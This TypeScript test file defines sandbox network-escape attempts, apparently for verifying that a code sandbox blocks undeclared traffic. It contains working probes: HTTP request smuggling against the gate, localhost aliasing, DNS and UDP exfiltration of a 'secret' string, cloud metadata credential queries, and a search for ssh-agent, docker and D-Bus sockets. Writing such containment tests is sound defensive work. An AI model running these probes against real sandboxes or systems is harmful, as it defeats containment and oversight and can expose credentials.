import { answered, anyOf, heard, type Attempt } from '../row.ts';

const LINES = `const net = await import('node:net');
  const say = (where, words) => new Promise((done) => {
    let got = ''; const socket = net.connect(where); socket.setTimeout(400, () => socket.destroy());
    socket.on('connect', () => socket.write(words)).on('data', (bytes) => (got += bytes)).on('error', (error) => (got += error.code)).on('close', () => done(got));
  });`;
/** The ways out that the walls may leave: what the environment names, and whatever socket lies about. */
const DOORS = `const fs = await import('node:fs');
  const doors = Object.values(process.env).flatMap((value) => { try { const url = new URL(value); return url.port ? [{ host: url.hostname, port: Number(url.port) }] : []; } catch { return value.startsWith('/') && value.endsWith('.sock') ? [{ path: value }] : []; } });
  for (const line of fs.readFileSync('/proc/net/tcp', 'utf8').split('\\n').slice(1)) { const [, local, , state] = line.trim().split(/ +/); if (state === '0A') doors.push({ host: '127.0.0.1', port: parseInt(local.split(':')[1], 16) }); }
  for (const folder of ['/run', '/tmp', '/var/run', host.dataFolder, import.meta.dirname]) try { for (const name of fs.readdirSync(folder)) if (fs.statSync(folder + '/' + name).isSocket()) doors.push({ path: folder + '/' + name }); } catch {}
  if (doors.length === 0) throw new Error('no way out');
  const answers = []; const through = async (words) => { for (const door of doors.slice(0, 6)) answers.push(await say(door, words)); };`;
const NO_GATE = 'without walls there is no gate to fool';

/** Hosts, sockets and ports that the manifest does not name. */
export const NETWORK_ATTEMPTS: readonly Attempt[] = [
  {
    name: 'fetches from a host that it does not declare',
    allowed: 'never',
    code: `return (await fetch('http://{{undeclaredHost}}/plain')).text();`,
    cameOff: heard('undeclared'),
  },
  {
    name: 'spells a host that it does not declare in other ways',
    allowed: 'never',
    code: `const answers = [];
      for (const url of ['http://{{declaredHost}}@{{undeclaredHost}}/a', 'http://{{undeclaredHost}}./b', 'http://' + '{{undeclaredHost}}'.toUpperCase() + '/c', 'http://{{undeclaredHost}}:80/d?{{declaredHost}}', 'http://{{undeclaredHost}}#@{{declaredHost}}/'])
        try { answers.push(await (await fetch(url)).text()); } catch (error) { answers.push(String(error.message)); }
      return answers.join(' ');`,
    cameOff: heard('undeclared'),
  },
  {
    name: 'talks to a part of the domain of a host that it declares',
    allowed: 'never',
    code: `return (await fetch('http://sub.{{declaredHost}}/part')).text();`,
    noControl: 'the stage has no such host',
    cameOff: anyOf(heard('declared', '/part'), heard('undeclared', '/part')),
  },
  {
    name: 'names a host that it does not declare in the Host header',
    allowed: 'never',
    code: `const http = await import('node:http');
      return new Promise((done, fail) => http.get({ host: '{{declaredHost}}', path: 'http://{{undeclaredHost}}/front', headers: { Host: '{{undeclaredHost}}' } }, (reply) => { reply.resume(); done(reply.statusCode); }).on('error', fail));`,
    noControl: NO_GATE,
    cameOff: heard('undeclared'),
  },
  {
    name: 'tells the gate one host and means another',
    allowed: 'never',
    code: `${LINES} ${DOORS}
      const good = '{{declaredHost}}'; const bad = '{{undeclaredHost}}'; const end = '\\r\\n\\r\\n';
      for (const words of [
        'GET http://' + bad + '/1 HTTP/1.1\\r\\nHost: ' + good + end,
        'GET http://' + good + '@' + bad + '/2 HTTP/1.1\\r\\nHost: ' + good + end,
        'CONNECT ' + bad + ':80 HTTP/1.1\\r\\nHost: ' + good + ':80' + end + 'GET /3 HTTP/1.1\\r\\nHost: ' + bad + end,
        'CONNECT ' + good + ':80@' + bad + ':80 HTTP/1.1' + end + 'GET /4 HTTP/1.1' + end,
        'CONNECT ' + bad + '.:80 HTTP/1.1' + end + 'GET /5 HTTP/1.1\\r\\nHost: ' + bad + end,
        'CONNECT ' + good + '\\0.' + bad + ':80 HTTP/1.1' + end + 'GET /6 HTTP/1.1' + end,
        'GET /7 HTTP/1.1\\r\\nHost: ' + bad + end,
      ]) await through(words);
      return answers.join(' | ');`,
    noControl: NO_GATE,
    cameOff: heard('undeclared'),
    process: 'own',
  },
  {
    name: 'smuggles a second request behind one to a host that it declares',
    allowed: 'never',
    code: `${LINES} ${DOORS}
      const second = 'GET http://{{undeclaredHost}}/smuggled HTTP/1.1\\r\\nHost: {{undeclaredHost}}\\r\\n\\r\\n';
      await through('GET http://{{declaredHost}}/first HTTP/1.1\\r\\nHost: {{declaredHost}}\\r\\nConnection: keep-alive\\r\\n\\r\\n' + second);
      await through('POST http://{{declaredHost}}/first HTTP/1.1\\r\\nHost: {{declaredHost}}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + second);
      return answers.join(' | ');`,
    noControl: NO_GATE,
    cameOff: heard('undeclared'),
    process: 'own',
  },
  {
    name: 'asks the gate for a port of the machine',
    allowed: 'never',
    code: `${LINES} ${DOORS}
      for (const name of ['127.0.0.1', 'localhost', '[::ffff:127.0.0.1]', '2130706433', '0', '127.1'])
        { await through('GET http://' + name + ':{{tcpPort}}/gate HTTP/1.1\\r\\nHost: {{declaredHost}}\\r\\n\\r\\n'); await through('CONNECT ' + name + ':{{tcpPort}} HTTP/1.1\\r\\n\\r\\nGET /gate HTTP/1.1\\r\\n\\r\\n'); }
      return answers.join(' | ');`,
    noControl: NO_GATE,
    cameOff: heard('tcp'),
    process: 'own',
  },
  {
    name: 'connects to a port of the machine',
    allowed: 'never',
    code: `${LINES} return say({ host: '127.0.0.1', port: {{tcpPort}} }, 'GET / HTTP/1.0\\r\\n\\r\\n');`,
    cameOff: heard('tcp'),
  },
  {
    name: 'connects to a port of the machine under other names of it',
    allowed: 'never',
    code: `${LINES} const answers = [];
      for (const host of ['::ffff:127.0.0.1', 'localhost', '0.0.0.0', '127.0.0.2', '::1']) answers.push(await say({ host, port: {{tcpPort}} }, 'hello'));
      return answers.join(' ');`,
    cameOff: heard('tcp'),
  },
  {
    name: 'connects to a port of the machine from a child without its environment',
    allowed: 'never',
    code: `const { execFileSync } = await import('node:child_process');
      return execFileSync(process.execPath, ['-e', "require('node:net').connect({{tcpPort}}, '127.0.0.1').end('from a child')"], { env: {} }).toString() + 'ran';`,
    cameOff: heard('tcp'),
  },
  {
    name: 'listens where the owner could reach it',
    allowed: 'never',
    code: `const net = await import('node:net');
      return new Promise((done) => net.createServer().on('error', (error) => done(error.code === 'EADDRINUSE' ? 'SAME NETWORK' : error.code)).listen({{tcpPort}}, '127.0.0.1', function () { this.close(() => done('a network of its own')); }));`,
    cameOff: answered(/^SAME NETWORK/),
  },
  {
    name: 'sends datagrams out of the machine',
    allowed: 'never',
    code: `const dgram = await import('node:dgram'); const sent = [];
      for (const [kind, address] of [['udp4', '192.0.2.1'], ['udp4', '169.254.169.254'], ['udp6', '2001:db8::1']])
        sent.push(await new Promise((done) => { const socket = dgram.createSocket(kind).on('error', (error) => done(error.code)); socket.send('secret', 53, address, (error) => { socket.close(); done(error?.code ?? 'SENT'); }); }));
      return sent.join(' ');`,
    noControl: 'a machine may have no route',
    cameOff: answered(/SENT/),
  },
  {
    name: 'carries words out in a name that it asks for',
    allowed: 'never',
    code: `const dns = await import('node:dns');
      const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 }); resolver.setServers(['192.0.2.1', '127.0.0.1']);
      const asked = await Promise.allSettled([resolver.resolve4('secret.{{undeclaredHost}}'), dns.promises.lookup('{{undeclaredHost}}')]);
      return asked.map((each) => each.status === 'fulfilled' ? 'ANSWER' : each.reason.code).join(' ');`,
    noControl: 'the hosts of the stage have no names outside',
    cameOff: answered(/ANSWER|TIMEOUT/),
  },
  {
    name: 'asks the address at which clouds keep credentials',
    allowed: 'never',
    code: `const reply = await fetch('http://169.254.169.254/latest/meta-data/', { signal: AbortSignal.timeout(1500) }); return 'STATUS ' + reply.status + (await reply.text());`,
    noControl: 'not every machine is in a cloud',
    cameOff: answered(/^STATUS 200/),
  },
  {
    name: 'connects to a socket of the owner',
    allowed: 'never',
    code: `${LINES} return say({ path: '{{unixSocket}}' }, 'hello');`,
    cameOff: heard('unix'),
  },
  {
    name: 'connects to a socket of the owner through a link',
    allowed: 'never',
    code: `${LINES} const fs = await import('node:fs'); const link = host.dataFolder + '/s' + Date.now();
      try { fs.linkSync('{{unixSocket}}', link); } catch { fs.symlinkSync('{{unixSocket}}', link); }
      return say({ path: link }, 'hello');`,
    cameOff: heard('unix'),
  },
  {
    name: 'connects to an abstract socket of the owner',
    allowed: 'never',
    code: `${LINES} return say({ path: '\\0{{abstractSocket}}' }, 'hello');`,
    cameOff: heard('abstract'),
  },
  {
    name: 'connects to sockets of the owner from a child',
    allowed: 'never',
    code: `const { execFileSync } = await import('node:child_process');
      return execFileSync(process.execPath, ['-e', "for (const path of ['{{unixSocket}}', '\\\\0{{abstractSocket}}']) require('node:net').connect(path).on('error', () => {}).end('child')"], { env: {} }).toString() + 'ran';`,
    cameOff: anyOf(heard('unix'), heard('abstract')),
  },
  {
    name: 'finds ssh-agent, docker, D-Bus, X11 or systemd',
    allowed: 'never',
    code: `${LINES} const fs = await import('node:fs'); const uid = process.getuid();
      const paths = [process.env.SSH_AUTH_SOCK, process.env.DBUS_SESSION_BUS_ADDRESS?.replace('unix:path=', ''), '/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock',
        '/run/dbus/system_bus_socket', '/run/user/' + uid + '/bus', '/run/user/' + uid + '/gnupg/S.gpg-agent', '/run/user/' + uid + '/wayland-0', '/run/systemd/private', '/run/systemd/journal/socket', '/tmp/.X11-unix/X0', '/var/run/nscd/socket',
        ...(fs.existsSync('/tmp') ? fs.readdirSync('/tmp').filter((name) => name.startsWith('ssh-')).flatMap((name) => fs.readdirSync('/tmp/' + name).map((each) => '/tmp/' + name + '/' + each)) : [])];
      const there = paths.filter((path) => path && fs.existsSync(path));
      return there.length > 0 ? 'THERE ' + there.join(' ') : 'none';`,
    noControl: 'not every machine has them',
    cameOff: answered(/^THERE/),
  },
];
